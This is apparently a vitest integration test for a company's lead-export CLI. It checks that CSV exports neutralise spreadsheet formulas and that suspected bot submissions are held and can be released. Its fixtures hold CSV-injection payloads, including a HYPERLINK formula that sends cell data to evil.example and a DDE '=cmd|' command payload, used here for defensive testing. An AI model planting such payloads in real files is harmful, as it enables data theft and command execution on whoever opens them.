import { execFile } from "node:child_process";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { formulaStart, parseCsv, readerCells } from "../../app/test/csv";
import { notificationId } from "../support/smtp";
import { postLead, startMailedApp } from "./lead-requests";

/**
 * The company's view of its leads (`npm run leads`), against a running app and its database: one lead
 * read whole, every lead exported for Excel (in English and in French, which splits on `;`) with names
 * that a spreadsheet would run as formulas, and a request held as a robot's released to the inbox.
 */

type Kind = "inquiry" | "consultation" | "quote";

/**
 * What each form sends, field by field: the answer, and the cell the export must hold for it when that
 * differs (an apostrophe before whatever a spreadsheet would read as a formula, at the cell's start and
 * after any separator or line break). The server trims answers.
 */
const answers: Record<Kind, Record<string, [sent: string, exported?: string]>> = {
  inquiry: {
    name: ["Jean;=1+1;", "Jean;'=1+1;"],
    company: [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
    ],
    phone: ["+237 699 00 00 00", "'+237 699 00 00 00"],
    service: ["coating"],
    details: [
      'Soudure à 45° "TIG" 🔥👩🏽‍🔧, lot 1; lot 2\n@SUM(A1:A9)\n- UT',
      `Soudure à 45° "TIG" 🔥👩🏽‍🔧, lot 1; lot 2\n'@SUM(A1:A9)\n'- UT`,
    ],
  },
  consultation: {
    name: ["@SUM(A1) Ngo Biyong", "'@SUM(A1) Ngo Biyong"],
    phone: ["-2+3", "'-2+3"],
    company: ["Douala Steel, Kribi; Limbé"],
    service: ["ndt"],
    preferredDate: ["2099-06-15"],
    preferredTime: ["14:00"],
    message: ["PAUT\n=cmd|' /C calc'!A0", "PAUT\n'=cmd|' /C calc'!A0"],
  },
  quote: {
    name: ["\uFF1D1+1 Éloïse Ndongo", "'\uFF1D1+1 Éloïse Ndongo"],
    company: [""],
    phone: ["(+237) 699-00-00-00"],
    service: ["staff-outsourcing"],
    roles: ["2 CSWIP 3.1\n+1 welder", "2 CSWIP 3.1\n'+1 welder"],
    headcount: ["3"],
    startDate: ["2099-07-01"],
    duration: ["3 months"],
    location: ['Kribi, "site B"'],
    details: ["Line 1\r\nLine 2", "Line 1\nLine 2"],
  },
};

const referrer = "https://www.google.com/search?q=soudure,douala;cameroun";

let sequence = 0;
/** A form of `kind` as the page's script posts it, sent after `elapsed` ms; each with an email of its own. */
function form(kind: Kind, elapsed = "12000"): Record<string, string> {
  sequence += 1;
  const id = `${process.pid}-${Date.now()}-${sequence}`;
  return {
    form: kind,
    locale: kind === "inquiry" ? "fr" : "en",
    page: kind === "inquiry" ? "/fr" : "/",
    referrer,
    utm_source: "newsletter",
    utm_campaign: "=spring",
    website: "",
    elapsed,
    submission: `operator-${id}`,
    email: `${kind}.${id}@example.org`,
    ...Object.fromEntries(Object.entries(answers[kind]).map(([field, [sent]]) => [field, sent])),
  };
}

/** The cell the export must hold for each field of `kind`'s answers. */
const exported = (kind: Kind) =>
  Object.entries(answers[kind]).map(([field, [sent, cell]]): [string, string] => [field, cell ?? sent]);

for (const database of ["embedded", "postgres"] as const) {
  describe(`the operator's tool (${database})`, () => {
    let smtp: Awaited<ReturnType<typeof startMailedApp>>["smtp"];
    let pg: Awaited<ReturnType<typeof startMailedApp>>["pg"] = null;
    let app: Awaited<ReturnType<typeof startMailedApp>>["app"];
    let started: Awaited<ReturnType<typeof startMailedApp>> | undefined;
    const refs = new Map<Kind, { ref: string; fields: Record<string, string> }>();

    // A database cluster and the app take a while to start on a machine busy with other work.
    beforeAll(async () => {
      started = await startMailedApp(database);
      ({ smtp, pg, app } = started);
      for (const kind of ["inquiry", "consultation", "quote"] as const) {
        const fields = form(kind);
        const response = await postLead(app.port, fields);
        expect(response.status, `${kind}: ${await response.clone().text()}`).toBe(200);
        refs.set(kind, { ref: (await response.json()).ref, fields });
      }
    }, 90_000);
    afterAll(async () => {
      await started?.stop();
    });

    /**
     * `npm run leads -- …args` on this app's database, as the operator runs it beside the server. Not
     * spawnSync: the test's SMTP server lives in this process and must keep answering the app meanwhile.
     */
    function leadsTool(...args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
      return new Promise((done) => {
        const env = {
          ...process.env,
          LEADS_DATA_DIR: app.dataDir,
          ...(pg ? { DATABASE_URL: pg.url } : {}),
        };
        execFile(
          process.execPath,
          ["scripts/leads.mjs", ...args],
          { env, encoding: "utf8", timeout: 30_000, maxBuffer: 16 * 1024 * 1024 },
          (error, stdout, stderr) => {
            const code = (error as { code?: unknown } | null)?.code;
            done({ status: error ? (typeof code === "number" ? code : null) : 0, stdout, stderr });
          },
        );
      });
    }

    const lead = (kind: Kind) => refs.get(kind) ?? { ref: "", fields: {} };

    for (const separator of [",", ";"] as const) {
      test(`--csv${separator === ";" ? " --sep ';'" : ""}: every field of every form, read back cell by cell`, {
        timeout: 60_000,
      }, async () => {
        const run = await leadsTool("--csv", ...(separator === ";" ? ["--sep", ";"] : []));
        expect(run.stderr).toBe("");
        expect(run.status).toBe(0);
        const { bom, rows } = parseCsv(run.stdout, separator);
        expect(bom).toBe(true);
        const [header = [], ...lines] = rows;
        expect(header[0]).toBe("ref");
        for (const column of ["created_at", "kind", "locale", "page", "referrer", "utm_source", "utm_campaign"])
          expect(header).toContain(column);
        expect(header).toContain("mail_status");
        for (const kind of ["inquiry", "consultation", "quote"] as const) {
          const { ref, fields } = lead(kind);
          const line = lines.find((cells) => cells[0] === ref);
          expect(line, `${kind} ${ref} is exported`).toBeDefined();
          expect(line).toHaveLength(header.length);
          const cell = (column: string) => {
            expect(header, `a column for ${column}`).toContain(column);
            return line?.[header.indexOf(column)];
          };
          for (const [field, value] of exported(kind)) expect(cell(field), `${kind} ${field}`).toBe(value);
          expect(cell("email")).toBe(fields.email);
          expect(cell("kind")).toBe(kind);
          expect(cell("locale")).toBe(fields.locale);
          expect(cell("page")).toBe(fields.page);
          expect(cell("referrer")).toBe(referrer);
          expect(cell("utm_source")).toBe("newsletter");
          expect(cell("utm_campaign")).toBe("'=spring");
          expect(cell("created_at")).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
          expect(["pending", "sent"]).toContain(cell("mail_status"));
        }
        // A reader that guesses the other separator, or ignores quotes, still finds no formula anywhere.
        for (const piece of readerCells(run.stdout)) expect(piece).not.toMatch(formulaStart);
      });
    }

    test("--show prints every field of each form, where it came from, and its mail's history", {
      timeout: 60_000,
    }, async () => {
      for (const kind of ["inquiry", "consultation", "quote"] as const) {
        const { ref, fields } = lead(kind);
        // Its mail reaches the inbox, and the lead's page says when.
        await expect
          .poll(async () => (await leadsTool("--show", ref)).stdout, { timeout: 20_000 })
          .toMatch(/\n {2}Status: sent\n/);
        const run = await leadsTool("--show", ref);
        expect(run.status).toBe(0);
        const text = run.stdout;
        expect(text).toMatch(new RegExp(`^Référence / Reference: ${ref}\n`));
        for (const [field, [sent]] of Object.entries(answers[kind])) {
          const value = sent.trim().replace(/\r\n/g, "\n");
          if (value === "") continue;
          // Multi-line answers are indented under their label, line by line.
          for (const part of value.split("\n")) expect(text, `${kind} ${field}`).toContain(part);
        }
        expect(text).toContain(fields.email);
        expect(text).toContain(`Envoyée depuis / Sent from: ${fields.page}`);
        expect(text).toContain(`Provenance / Came from: ${referrer}`);
        expect(text).toContain("utm_source: newsletter");
        expect(text).toContain("utm_campaign: =spring");
        expect(text).toMatch(/Queued at: \d{4}-\d{2}-\d{2} \d{2}:\d{2} WAT/);
        expect(text).toMatch(/Sent at: \d{4}-\d{2}-\d{2} \d{2}:\d{2} WAT/);
        // One attempt or more: a send slowed down by a busy machine is tried again.
        expect(text).toMatch(/\n {2}Attempts: [1-9]\d*\n/);
      }
    });

    test("--suspect lists a request sent too fast, which no mail announced; --resend sends it to the inbox", {
      timeout: 60_000,
    }, async () => {
      const fast = form("inquiry", "400");
      const response = await postLead(app.port, fast);
      expect(response.status).toBe(200);
      const { ref } = await response.json();
      const listed = await leadsTool("--suspect");
      expect(listed.status).toBe(0);
      expect(listed.stdout).toMatch(new RegExp(`${ref}.*suspect`));
      for (const kind of ["inquiry", "consultation", "quote"] as const)
        expect(listed.stdout).not.toContain(lead(kind).ref);
      // Held, never claimed by a sender: no attempt at all.
      const held = (await leadsTool("--show", ref)).stdout;
      expect(held).toContain("\n  Status: suspect\n  Queued at:");
      expect(held).toContain("\n  Attempts: 0\n");

      const released = await leadsTool("--resend", ref);
      expect(released.stderr).toBe("");
      expect(released.status).toBe(0);
      expect(released.stdout).toContain(`${ref}: released to the inbox`);
      await expect
        .poll(() => smtp.received.filter((mail) => mail.messageId === notificationId(ref)).length, { timeout: 20_000 })
        .toBe(1);
      await expect
        .poll(async () => (await leadsTool("--show", ref)).stdout, { timeout: 20_000 })
        .toContain("\n  Status: sent\n");
      const after = await leadsTool("--suspect");
      expect(after.status).toBe(0);
      expect(after.stdout).toContain("No request is held as a suspected robot's");
    });

    test("a malformed or unknown reference, and a wrong option, are errors that say so", {
      timeout: 60_000,
    }, async () => {
      const unknown = await leadsTool("--show", "WI-22222");
      expect(unknown.status).toBe(1);
      expect(unknown.stderr).toContain("No lead has the reference WI-22222.");
      const malformed = await leadsTool("--show", "WI-1O1");
      expect(malformed.status).toBe(1);
      expect(malformed.stderr).toContain('"WI-1O1" is not a lead reference');
      expect((await leadsTool("--resend", "nope")).status).toBe(1);
      for (const args of [
        ["--show"],
        ["--csv", "--sep", "|"],
        ["--csv", "--sep"],
        ["--sep", ";"],
        ["--csv", "--show", "WI-22222"],
        ["--bogus"],
      ]) {
        const run = await leadsTool(...args);
        expect(run.status, args.join(" ")).toBe(64);
        expect(run.stderr, args.join(" ")).toMatch(/Usage: npm run leads|--sep takes/);
        expect(run.stdout).toBe("");
      }
    });
  });
}
